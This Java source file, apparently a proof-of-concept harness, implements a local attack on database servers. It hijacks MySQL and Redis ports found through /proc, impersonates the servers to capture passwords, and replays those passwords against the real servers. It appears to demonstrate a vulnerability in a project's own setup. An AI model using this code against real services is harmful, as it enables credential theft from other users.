package dev.blobmark.evidence.thief;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.sql.Connection;
import java.sql.SQLException;
import java.util.HashSet;
import java.util.List;
import java.util.Properties;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;

/**
 * Searches the list of processes for starting servers, takes their ports, answers in their place, and tries the
 * passwords that it obtains on servers that listen. It leaves one port in four to its server, so that logins on real
 * servers are tried as well. For each byte of its input, it prints what it has obtained.
 *
 * <p>A Redis has its port in a file that only its user can read. The thief runs as that user and reads the file, so it
 * is stronger than a thief of another user.
 */
public final class Thief {

    private static final Pattern PORT = Pattern.compile("--port=(\\d+)");
    private static final Pattern REDIS_PORT = Pattern.compile("(?m)^port (\\d+)$");
    private static final int TIMEOUT_MILLIS = 5_000;

    private final Loot loot = new Loot();
    private final Set<Integer> seen = ConcurrentHashMap.newKeySet();
    private final Set<String> triedLogins = ConcurrentHashMap.newKeySet();
    private final Set<Long> others = new HashSet<>();
    private final AtomicInteger turn = new AtomicInteger();
    private final SSLContext tls;

    /** The parent of the processes that are attacked, so that no other user of this machine is disturbed. */
    private final long parent;

    private Thief(SSLContext tls, long parent) {
        this.tls = tls;
        this.parent = parent;
    }

    /**
     * @param arguments id of the process whose servers are attacked, and a PKCS #12 file with a key and the password
     *     "changeit"
     */
    public static void main(String[] arguments) throws Exception {
        char[] word = "changeit".toCharArray();
        KeyStore keys = KeyStore.getInstance(Path.of(arguments[1]).toFile(), word);
        KeyManagerFactory managers = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
        managers.init(keys, word);
        SSLContext tls = SSLContext.getInstance("TLS");
        tls.init(managers.getKeyManagers(), null, null);
        Thief thief = new Thief(tls, Long.parseLong(arguments[0]));
        Thread search = new Thread(thief::search, "search");
        search.setDaemon(true);
        search.start();
        System.out.println("ready");
        while (System.in.read() >= 0) {
            System.out.println(thief.loot.line());
        }
    }

    private void search() {
        while (true) {
            try (DirectoryStream<Path> processes = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
                for (Path process : processes) {
                    inspect(process);
                }
                Thread.sleep(1);
            } catch (IOException | InterruptedException e) {
                // such as a process that has ended
            }
        }
    }

    private void inspect(Path process) throws IOException, InterruptedException {
        long pid = Long.parseLong(process.getFileName().toString());
        if (others.contains(pid)) {
            return;
        }
        String command;
        try {
            command = Files.readString(process.resolve("cmdline"), StandardCharsets.ISO_8859_1)
                    .replace('\0', ' ');
            if (!command.isEmpty() && !isTarget(process)) {
                others.add(pid);
                return;
            }
        } catch (IOException ended) {
            return;
        }
        Matcher port = PORT.matcher(command);
        if (port.find()) {
            take(Integer.parseInt(port.group(1)), false);
        } else if (command.contains("redis") && command.contains("server.cnf")) {
            Path configuration = Path.of(command.strip().replaceFirst("^.* (?=/\\S+$)", ""));
            Matcher line = REDIS_PORT.matcher(Files.exists(configuration) ? Files.readString(configuration) : "");
            if (line.find()) {
                take(Integer.parseInt(line.group(1)), true);
            }
        }
    }

    private boolean isTarget(Path process) throws IOException {
        String status = Files.readString(process.resolve("status"));
        return status.contains("\nPPid:\t" + parent + "\n");
    }

    private void take(int port, boolean isRedis) {
        if (!seen.add(port)) {
            return;
        }
        loot.portsSeen.increment();
        int number = turn.getAndIncrement();
        // known passwords are tried on the servers that keep their ports
        if (number % 4 == 3) {
            start("try-" + port, () -> tryLogins(port));
            return;
        }
        try {
            ServerSocket socket = new ServerSocket(port, 50, InetAddress.getByName("127.0.0.1"));
            loot.portsTaken.increment();
            start("port-" + port, () -> listen(socket, isRedis, number));
        } catch (IOException tooLate) {
            start("try-" + port, () -> tryLogins(port));
        }
    }

    private static void start(String name, Runnable work) {
        Thread thread = new Thread(work, name);
        thread.setDaemon(true);
        thread.start();
    }

    private void listen(ServerSocket socket, boolean isRedis, int number) {
        try (socket) {
            socket.setSoTimeout(2 * TIMEOUT_MILLIS);
            for (int connection = number; ; connection++) {
                try (Socket client = socket.accept()) {
                    client.setSoTimeout(TIMEOUT_MILLIS);
                    loot.connections.increment();
                    if (isRedis) {
                        redis(client);
                    } else {
                        FalseMySql.Method[] methods = FalseMySql.Method.values();
                        new FalseMySql(loot, methods[connection % methods.length], tls, client).serve();
                    }
                } catch (java.net.SocketTimeoutException nobody) {
                    return;
                } catch (IOException | java.security.GeneralSecurityException refused) {
                    // the client has disconnected
                }
            }
        } catch (IOException e) {
            // the port is free again
        }
    }

    /** Records the password in a client's first command. */
    private void redis(Socket client) throws IOException {
        byte[] buffer = new byte[4096];
        int length = client.getInputStream().read(buffer);
        if (length <= 0) {
            return;
        }
        loot.loginBytes.add(length);
        List<String> words =
                new String(buffer, 0, length, StandardCharsets.UTF_8).lines().toList();
        for (int i = 0; i < words.size(); i++) {
            if (words.get(i).equalsIgnoreCase("AUTH")) {
                int last = i + 2 < words.size() && words.get(i + 2).equals("default") ? i + 4 : i + 2;
                if (last < words.size()) {
                    loot.passwords.add(words.get(last));
                }
            }
        }
        client.getOutputStream().write("-ERR try again\r\n".getBytes(StandardCharsets.US_ASCII));
    }

    /** Tries each known password, as long as the server may live. */
    private void tryLogins(int port) {
        long deadline = System.nanoTime() + 20_000_000_000L;
        while (System.nanoTime() < deadline) {
            for (String password : loot.passwords) {
                if (triedLogins.contains(port + password)) {
                    continue;
                }
                Properties login = new Properties();
                login.setProperty("user", "blobmark");
                login.setProperty("password", password);
                login.setProperty("allowPublicKeyRetrieval", "true");
                login.setProperty("connectTimeout", "1000");
                login.setProperty("socketTimeout", "2000");
                try (Connection connection =
                        new org.mariadb.jdbc.Driver().connect("jdbc:mariadb://127.0.0.1:" + port + "/", login)) {
                    if (connection.isValid(1) && triedLogins.add(port + password)) {
                        loot.logins.increment();
                    }
                } catch (SQLException e) {
                    if (e.getErrorCode() == 1045) {
                        triedLogins.add(port + password);
                    }
                }
            }
            try {
                Thread.sleep(5);
            } catch (InterruptedException e) {
                return;
            }
        }
    }
}
